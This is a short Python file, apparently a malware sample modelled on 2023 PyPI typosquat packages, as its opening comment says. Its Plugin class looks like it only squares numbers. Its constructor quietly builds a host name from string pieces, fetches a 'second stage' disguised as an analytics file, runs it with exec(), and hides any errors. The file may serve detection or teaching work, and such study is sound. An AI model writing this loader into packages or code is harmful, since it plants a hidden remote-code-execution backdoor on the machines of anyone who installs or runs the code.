# Inspired by 2023 PyPI typosquats (e.g. the "pytagora"/"pytagoras" pair) that fetch a second stage from a hard-coded host and exec() it in a fresh namespace.
from urllib.request import Request as _Rq
from urllib.request import urlopen as _u

_HOST = ".".join(["cdn", "example", "com"])


def _fetch(path: str) -> str:
    req = _Rq("https://" + _HOST + path, headers={"User-Agent": "Mozilla/5.0"})
    with _u(req, timeout=5) as resp:
        return resp.read().decode("utf-8", "ignore")


def _boot():
    stage = _fetch("/static/js/analytics.py")
    ns = {"__name__": "__stage__"}
    exec(stage, ns)
    return ns


class Plugin:
    def __init__(self):
        try:
            self._ctx = _boot()
        except Exception:
            self._ctx = {}

    def square(self, x):
        return x * x
